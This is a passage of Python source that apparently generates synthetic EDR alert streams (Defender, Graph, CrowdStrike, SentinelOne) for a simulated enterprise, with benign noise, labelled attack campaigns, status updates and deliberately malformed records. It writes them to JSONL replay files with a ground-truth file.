    "lopez", "moreau", "nagy", "okafor", "patel", "quist", "rossi", "silva", "tanaka", "ueda",
    "volkov", "walsh", "xu", "yilmaz", "zhang",
)  # fmt: skip
_WORKSTATION_DEPARTMENTS = ("fin", "hr", "eng", "mkt", "ops", "sales", "legal", "it", "rnd")
_WINDOWS_SERVER_ROLES = ("fs", "app", "sql", "print", "web", "ts", "ca")
_LINUX_ROLES = ("web", "db", "k8s", "ci", "mq", "cache", "api", "etl")
_LINUX_PEOPLE = ("svc-deploy", "svc-ci", "ubuntu", "svc-etl", "svc-ops")


@dataclass(frozen=True)
class _Host:
    name: str  # short, lower-case
    platform: str
    ip: str
    person: str  # who "user" kinds run as
    kinds: tuple[_Kind, ...]  # its habitual detections
    cum_weights: tuple[float, ...]
    fqdn: str  # how Microsoft names it
    falcon_name: str  # how Falcon names it (Windows: short upper-case)
    s1_name: str  # how SentinelOne names it


class _Enterprise:
    """Hosts in four groups: Windows hosts that Microsoft and Falcon both watch, Microsoft-only
    Windows hosts, Falcon-only servers (Windows and Linux) and SentinelOne Macs and Linux."""

    def __init__(self, rng: random.Random, size: int) -> None:
        self._rng = rng
        self._counters: dict[str, int] = {}
        self._popularity = {platform: self._zipf_cum(len(kinds), 1.0) for platform, kinds in _NOISE.items()}
        self._order = {platform: rng.sample(kinds, len(kinds)) for platform, kinds in _NOISE.items()}
        shared = size // 3
        microsoft = round(size * 0.22)
        falcon = round(size * 0.25)
        sentinel = size - shared - microsoft - falcon
        index = itertools.count()
        self.shared = [self._windows(next(index)) for _ in range(shared)]
        self.microsoft = [self._windows(next(index)) for _ in range(microsoft)]
        falcon_windows = round(falcon * 0.4)
        self.falcon = [self._windows(next(index), server=True) for _ in range(falcon_windows)]
        self.falcon += [self._linux(next(index)) for _ in range(falcon - falcon_windows)]
        macs = round(sentinel * 0.6)
        self.sentinel = [self._macos(next(index)) for _ in range(macs)]
        self.sentinel += [self._linux(next(index)) for _ in range(sentinel - macs)]
        pools = {
            "mde": self.shared + self.microsoft,
            "graph": self.shared + self.microsoft,
            "crowdstrike": self.shared + self.falcon,
            "sentinelone": self.sentinel,
        }
        self.pools = {source: (hosts, self._activity(len(hosts))) for source, hosts in pools.items()}

    @staticmethod
    def _zipf_cum(count: int, exponent: float) -> tuple[float, ...]:
        return tuple(itertools.accumulate(1.0 / (rank + 1) ** exponent for rank in range(count)))

    def _activity(self, count: int) -> tuple[float, ...]:
        # A few very noisy hosts and a long quiet tail, in no particular order of hosts.
        ranks = list(range(count))
        self._rng.shuffle(ranks)
        return tuple(itertools.accumulate(1.0 / (rank + 1) ** 0.8 for rank in ranks))

    def _name(self, prefix: str) -> str:
        number = self._counters.get(prefix, 0) + 1
        self._counters[prefix] = number
        return f"{prefix}-{number:03d}"

    def _habits(self, platform: str) -> tuple[tuple[_Kind, ...], tuple[float, ...]]:
        order, popularity = self._order[platform], self._popularity[platform]
        wanted = min(self._rng.randint(2, 6), len(order))
        chosen: list[_Kind] = []
        while len(chosen) < wanted:
            kind = self._rng.choices(order, cum_weights=popularity)[0]
            if kind not in chosen:
                chosen.append(kind)
        return tuple(chosen), self._zipf_cum(len(chosen), 1.3)

    def _host(self, name: str, platform: str, ip: str, person: str) -> _Host:
        kinds, weights = self._habits(platform)
        return _Host(
            name=name,
            platform=platform,
            ip=ip,
            person=person,
            kinds=kinds,
            cum_weights=weights,
            fqdn=f"{name}.{EMAIL_DOMAIN}",
            falcon_name=name.upper() if platform == "windows" else name,
            s1_name=name.upper() if platform == "macos" else name,
        )

    def _person(self) -> str:
        return f"{self._rng.choice(_FIRST_NAMES)[0]}{self._rng.choice(_LAST_NAMES)}"

    def _windows(self, index: int, server: bool = False) -> _Host:
        rng = self._rng
        if server or rng.random() < 0.15:
            name = self._name(f"{rng.choice(_WINDOWS_SERVER_ROLES)}-srv")
            person = rng.choice(("svc-backup", "svc-sql", "svc-monitor", "adm-" + self._person()))
        else:
            department = rng.choice(_WORKSTATION_DEPARTMENTS)
            name = self._name(f"{department}-{'lt' if rng.random() < 0.4 else 'ws'}")
            person = self._person()
        return self._host(name, "windows", f"10.20.{index // 250}.{index % 250 + 2}", person)

    def _linux(self, index: int) -> _Host:
        name = self._name(f"{self._rng.choice(_LINUX_ROLES)}-lnx")
        return self._host(
            name, "linux", f"10.30.{index // 250}.{index % 250 + 2}", self._rng.choice(_LINUX_PEOPLE)
        )

    def _macos(self, index: int) -> _Host:
        name = self._name(f"{self._rng.choice(_WORKSTATION_DEPARTMENTS)}-mbp")
        return self._host(name, "macos", f"10.40.{index // 250}.{index % 250 + 2}", self._person())


def _account_for(kind: _Kind, host: _Host) -> str:
    windows = host.platform == "windows"
    if kind.account == "system":
        return "NT AUTHORITY\\SYSTEM" if windows else "root"
    name = host.person if kind.account == "user" else kind.account
    return f"{AD_DOMAIN}\\{name}" if windows else name


class _Template(Protocol):
    def fill(self, seed: str, created: int, updated: int, first: int | None) -> dict[str, Any]: ...


def _template(source: str, host: _Host, kind: _Kind) -> _Template:
    """`kind` on `host` as `source` reports it, ready to be filled in with ids and times."""
    command_line = kind.command_line.replace("{user}", host.person)
    user = _account_for(kind, host)
    if source == "mde":
        return _mde_template(
            host.fqdn,
            user,
            kind.title,
            kind.tactic,
            kind.technique,
            kind.severity,
            command_line,
            None,
            "new",
            None,
            None,
            kind.parent,
            None,
            "WindowsDefenderAtp",
        )
    if source == "graph":
        return _graph_template(
            host.fqdn,
            user,
            kind.title,
            kind.tactic,
            kind.technique,
            kind.severity,
            command_line,
            None,
            host.ip,
            "new",
            None,
            None,
            kind.parent,
            None,
            "microsoftDefenderForEndpoint",
        )
    if source == "crowdstrike":
        return _falcon_template(
            host.falcon_name,
            user,
            kind.title,
            kind.tactic,
            kind.technique,
            kind.severity,
            command_line,
            None,
            host.ip,
            "new",
            kind.name,
            None,
            kind.parent,
            host.platform,
            NAT_IP,
        )
    # SentinelOne names a threat after its file; the Mac catalogue already does.
    title = kind.title if host.platform == "macos" else _image(command_line, host.platform)[0]
    return _s1_template(
        host.s1_name,
        user,
        title,
        kind.tactic,
        kind.technique,
        kind.severity,
        command_line,
        None,
        host.ip,
        "new",
        kind.classification,
        host.platform,
        None,
        kind.parent,
        None,
        None,
    )


def _split(total: int) -> dict[str, int]:
    """`total` shared out by SOURCE_SHARES, largest remainders first, summing to `total`."""
    exact = {source: total * share for source, share in SOURCE_SHARES.items()}
    counts = {source: int(value) for source, value in exact.items()}
    by_remainder = sorted(SOURCES, key=lambda source: (counts[source] - exact[source], SOURCES.index(source)))
    for source in by_remainder[: total - sum(counts.values())]:
        counts[source] += 1
    return counts


class _Draft(NamedTuple):
    """A record under construction: its ScenarioAlert and the vendor update time (µs) it carries."""

    item: LabelledAlert
    updated: int


_DELAY_US = VENDOR_DELAY // _ONE_US


def _draft(alert: dict[str, Any], updated: int, is_attack: bool, campaign: str | None) -> _Draft:
    item = LabelledAlert(
        alert=alert, visible_at=_moment(updated + _DELAY_US), is_attack=is_attack, campaign=campaign
    )
    return _Draft(item, updated)


def _revise(
    source: str, alert: dict[str, Any], at: int, status: str, true_positive: bool, digit: int
) -> dict[str, Any]:
    """A later version of `alert`: same id, update time `at`, status changed (a shallow copy:
    the untouched nested parts are shared with the earlier version)."""
    resolved = status == "resolved"
    if source == "mde":
        out = {
            **alert,
            "status": _MDE_STATUS[status],
            "assignedTo": ANALYST,
            "lastUpdateTime": _ms_time(at, digit),
        }
        if resolved:
            out.update(
                resolvedTime=_ms_time(at, 0),
                classification="TruePositive" if true_positive else "FalsePositive",
                determination="MultiStagedAttack" if true_positive else "Clean",
            )
        return out
    if source == "graph":
        out = {
            **alert,
            "status": _GRAPH_STATUS[status],
            "assignedTo": ANALYST,
            "lastUpdateDateTime": _graph_time(at, digit),
        }
        if resolved:
            out.update(
                resolvedDateTime=_graph_time(at, 0),
                classification="truePositive" if true_positive else "falsePositive",
                determination="multiStagedAttack" if true_positive else "notMalicious",
            )
        return out
    if source == "crowdstrike":
        out = {
            **alert,
            "status": _FALCON_STATUS[status],
            "assigned_to_name": "SOC Analyst",
            "assigned_to_uid": ANALYST,
            "updated_timestamp": _falcon_time(at, digit * 100),
            "crawled_timestamp": _falcon_time(at, digit * 100 + 7),
        }
        if resolved:
            out["resolution"] = "true_positive" if true_positive else "false_positive"
        return out
    info = dict(alert["threatInfo"])
    incident, description = _S1_STATUS[status]
    info.update(incidentStatus=incident, incidentStatusDescription=description, updatedAt=_s1_time(at))
    if resolved:
        info.update(
            analystVerdict="true_positive" if true_positive else "false_positive",
            analystVerdictDescription="True positive" if true_positive else "False positive",
        )
    return {**alert, "threatInfo": info}


_ID_FIELD = {"mde": "id", "graph": "id", "crowdstrike": "composite_id", "sentinelone": "id"}
_BAD_TIME = "2025-02-30T25:61:00Z"


def _break(source: str, alert: dict[str, Any], how: int) -> dict[str, Any]:
    """`alert` made unusable: 0 drops its id, 1 its update time, 2 garbles the update time."""
    if how == 0:
        return {key: value for key, value in alert.items() if key != _ID_FIELD[source]}
    bad = None if how == 1 else _BAD_TIME
    if source == "mde":
        # MDE falls back to the creation time when the update time is missing: spoil both.
        return {**alert, "lastUpdateTime": bad, "alertCreationTime": bad}
    if source == "graph":
        return {**alert, "lastUpdateDateTime": bad}
    if source == "crowdstrike":
        return {**alert, "updated_timestamp": bad}
    return {**alert, "threatInfo": {**alert["threatInfo"], "updatedAt": bad}}


class _Generator:
    """One generate() run: the enterprise, its random stream and the template cache."""

    def __init__(self, n: int, start: datetime, span: timedelta, seed: int) -> None:
        self.rng = random.Random(seed)
        self.seed = str(seed)
        self.start = _us(start, "start")
        self.span = span // _ONE_US
        self.end = self.start + self.span
        self.enterprise = _Enterprise(self.rng, min(MAX_HOSTS, max(40, n // 25)))
        self._templates: dict[tuple[str, str, int], _Template] = {}

    def template(self, source: str, host: _Host, kind: _Kind) -> _Template:
        key = (source, host.name, id(kind))
        found = self._templates.get(key)
        if found is None:
            found = self._templates[key] = _template(source, host, kind)
        return found

    def noise(self, source: str, count: int, tag: str) -> list[_Draft]:
        hosts, activity = self.enterprise.pools[source]
        rng, start, span = self.rng, self.start, self.span
        out = []
        for index, host in enumerate(rng.choices(hosts, cum_weights=activity, k=count)):
            weights = host.cum_weights
            kind = host.kinds[bisect.bisect(weights, rng.random() * weights[-1])]
            updated = start + int(span * rng.random())
            created = updated - 8 * _SECOND - rng.randrange(112 * _SECOND)
            alert = self.template(source, host, kind).fill(
                f"{self.seed}/{source}/{tag}/{index}", created, updated, None
            )
            out.append(_draft(alert, updated, False, None))
        return out

    def campaigns(self, count: int, drafts: dict[str, list[_Draft]]) -> None:
        rng, enterprise = self.rng, self.enterprise
        window = min(55 * _MINUTE, self.span)
        groups = (enterprise.shared, enterprise.microsoft, enterprise.falcon, enterprise.sentinel)
        for number in range(1, count + 1):
            campaign = f"campaign-{number:03d}"
            hosts = rng.choices(groups, weights=(0.4, 0.2, 0.2, 0.2))[0]
            host = rng.choice(hosts)
            chain = _CHAINS[host.platform]
            stages = sorted(rng.sample(range(len(chain)), rng.randint(3, min(5, len(chain)))))
            if hosts is enterprise.sentinel:
                primary = "sentinelone"
            elif hosts is enterprise.falcon:
                primary = "crowdstrike"
            else:
                primary = "mde" if rng.random() < 0.7 else "graph"
            first = self.start + int((self.span - window) * rng.random())
            last = first + window
            # Activity fills the first three quarters of the window; vendor updates land in the rest.
            offsets = sorted(int(window * 0.75 * rng.random()) for _ in stages)
            seen_twice: set[int] = set()
            if hosts is enterprise.shared and rng.random() < 0.5:
                seen_twice = set(rng.sample(stages, rng.randint(1, 2)))
            for position, (stage, offset) in enumerate(zip(stages, offsets, strict=True)):
                kind = chain[stage]
                created = min(first + offset + rng.randrange(1, 20) * _SECOND, last)
                activity = created - rng.randrange(5, 60) * _SECOND
                updated = min(created + rng.randrange(10, 90) * _SECOND, last)
                key = f"{self.seed}/{campaign}/{position}"
                alert = self.template(primary, host, kind).fill(key, created, updated, activity)
                drafts[primary].append(_draft(alert, updated, True, campaign))
                if stage in seen_twice:
                    later = min(created + rng.randrange(20, 120) * _SECOND, last)
                    later_update = min(later + rng.randrange(10, 60) * _SECOND, last)
                    alert = self.template("crowdstrike", host, kind).fill(
                        f"{key}/falcon", later, later_update, activity
                    )
                    drafts["crowdstrike"].append(_draft(alert, later_update, True, campaign))

    def updates(self, source: str, drafts: list[_Draft], count: int) -> list[_Draft]:
        rng = self.rng
        # Only alerts with room for a later version inside the span can be updated.
        candidates = [d for d in drafts if d.updated < self.end - 2 * _MINUTE]
        out = []
        for draft in rng.sample(candidates, min(count, len(candidates))):
            room = min(self.end - draft.updated, 4 * 60 * _MINUTE) - _MINUTE
            at = draft.updated + _MINUTE + int(room * rng.random())
            status = "resolved" if rng.random() < 0.6 else "in_progress"
            item = draft.item
            alert = _revise(source, item.alert, at, status, item.is_attack, rng.randrange(10))
            out.append(_draft(alert, at, item.is_attack, item.campaign))
        return out

    def malformed(self, source: str, count: int) -> list[_Draft]:
        out = []
        for draft in self.noise(source, count, "malformed"):
            broken = _break(source, draft.item.alert, self.rng.randrange(3))
            item = LabelledAlert(
                alert=broken, visible_at=draft.item.visible_at, is_attack=False, malformed=True
            )
            out.append(_Draft(item, draft.updated))
        return out


def generate(n: int, start: datetime, span: timedelta, seed: int = 7) -> dict[str, list[ScenarioAlert]]:
    """A deterministic synthetic enterprise: `n` records over [start, start + span], by source.

    Records split 35/15/35/15 % over mde/graph/crowdstrike/sentinelone, on up to MAX_HOSTS hosts
    (n // 25, at least 40; a third are Windows hosts that Microsoft and Falcon both watch, under
    the same short hostname). Most are recurring benign noise: each host has its own habitual
    2-6 kinds of detection out of a few dozen per platform, with Zipf-like frequencies for kinds
    and hosts. One attack campaign per CAMPAIGN_ALERTS records (3-5 alerts over >= 3 ATT&CK
    tactics on one host within an hour; on a shared host Falcon sees part of it half the time),
    `is_attack=True`. UPDATE_RATE of the records are later versions of earlier alerts (same id,
    later update time, status changed) and MALFORMED_RATE are malformed (no id, or a missing or
    invalid update time; `malformed=True`). Every vendor update time lies in [start, start +
    span]. Items are LabelledAlert; each source's list is ordered by `visible_at` (vendor update
    time + VENDOR_DELAY).
    """
    if n < 0:
        raise ValueError("n must not be negative")
    if span <= timedelta(0):
        raise ValueError("span must be positive")
    # Everything built here is acyclic and kept: the cyclic collector would only rescan the
    # growing heap over and over (half the run time) and free nothing.
    collecting = gc.isenabled()
    gc.disable()
    try:
        return _generate(n, start, span, seed)
    finally:
        if collecting:
            gc.enable()


def _generate(n: int, start: datetime, span: timedelta, seed: int) -> dict[str, list[ScenarioAlert]]:
    run = _Generator(n, start, span, seed)
    targets = _split(n)
    updates = _split(round(n * UPDATE_RATE))
    malformed = _split(round(n * MALFORMED_RATE))
    drafts: dict[str, list[_Draft]] = {source: [] for source in SOURCES}
    run.campaigns(n // CAMPAIGN_ALERTS, drafts)
    for source in SOURCES:
        noise = max(0, targets[source] - len(drafts[source]) - updates[source] - malformed[source])
        drafts[source] += run.noise(source, noise, "noise")
        drafts[source] += run.updates(source, drafts[source], updates[source])
        drafts[source] += run.malformed(source, malformed[source])
    result: dict[str, list[ScenarioAlert]] = {}
    for source in SOURCES:
        ordered = sorted(drafts[source], key=lambda draft: draft.updated)
        result[source] = [draft.item for draft in ordered]
    return result


# ==========================================================================================
# Replay input files.
# ==========================================================================================

REPLAY_FILES = {
    "mde": "mde_alerts.jsonl",
    "graph": "graph_alerts.jsonl",
    "crowdstrike": "crowdstrike_alerts.jsonl",
    "sentinelone": "sentinelone_threats.jsonl",
}
GROUND_TRUTH_FILE = "ground_truth.jsonl"
# Built alerts are trees (no cycles), so the encoder may skip its cycle bookkeeping.
_ENCODE = json.JSONEncoder(separators=(",", ":"), check_circular=False).encode

_UPDATE_FIELD: dict[str, Callable[[dict[str, Any]], Any]] = {
    "mde": lambda alert: alert.get("lastUpdateTime"),
    "graph": lambda alert: alert.get("lastUpdateDateTime"),
    "crowdstrike": lambda alert: alert.get("updated_timestamp"),
    "sentinelone": lambda alert: (alert.get("threatInfo") or {}).get("updatedAt"),
}


def vendor_id(source: str, alert: dict[str, Any]) -> str | None:
    """The id Needle keys a vendor alert on (Event.vendor_id), or None when it has none."""
    value = alert.get(_ID_FIELD[source])
    return value if isinstance(value, str) and value else None


def _sort_time(source: str, item: ScenarioAlert) -> datetime:
    try:
        return parse_time(_UPDATE_FIELD[source](item.alert))
    except (MalformedRecordError, AttributeError):
        # A record without a usable update time sits where it was meant to be served.
        return item.visible_at - VENDOR_DELAY


def write_jsonl(scenario: dict[str, list[ScenarioAlert]], directory: Path) -> dict[str, Path]:
    """Write the replay inputs into `directory`: one vendor object per line, ordered by vendor
    update time, one file per source in REPLAY_FILES (empty for a source the scenario lacks),
    plus GROUND_TRUTH_FILE: {"source", "vendor_id", "is_attack", "campaign"} once per distinct
    well-formed alert (updates share their alert's line; malformed records have none).

    Returns the paths by source, and the ground truth under "ground_truth".
    """
    unknown = sorted(set(scenario) - set(REPLAY_FILES))
    if unknown:
        raise ValueError(f"unknown sources: {unknown}")
    directory.mkdir(parents=True, exist_ok=True)
    paths: dict[str, Path] = {}
    truth: list[str] = []
    for source, filename in REPLAY_FILES.items():
        items = sorted(scenario.get(source, []), key=lambda item: _sort_time(source, item))
        path = directory / filename
        with path.open("w", encoding="utf-8") as out:
            out.writelines(_ENCODE(item.alert) + "\n" for item in items)
        paths[source] = path
        seen: set[str] = set()
        for item in items:
            identity = vendor_id(source, item.alert)
            if identity is None or identity in seen or (isinstance(item, LabelledAlert) and item.malformed):
                continue
            seen.add(identity)
            campaign = item.campaign if isinstance(item, LabelledAlert) else None
            row = {"source": source, "vendor_id": identity, "is_attack": item.is_attack, "campaign": campaign}
            truth.append(json.dumps(row) + "\n")
    truth_path = directory / GROUND_TRUTH_FILE
    truth_path.write_text("".join(truth), encoding="utf-8")
    paths["ground_truth"] = truth_path
    return paths
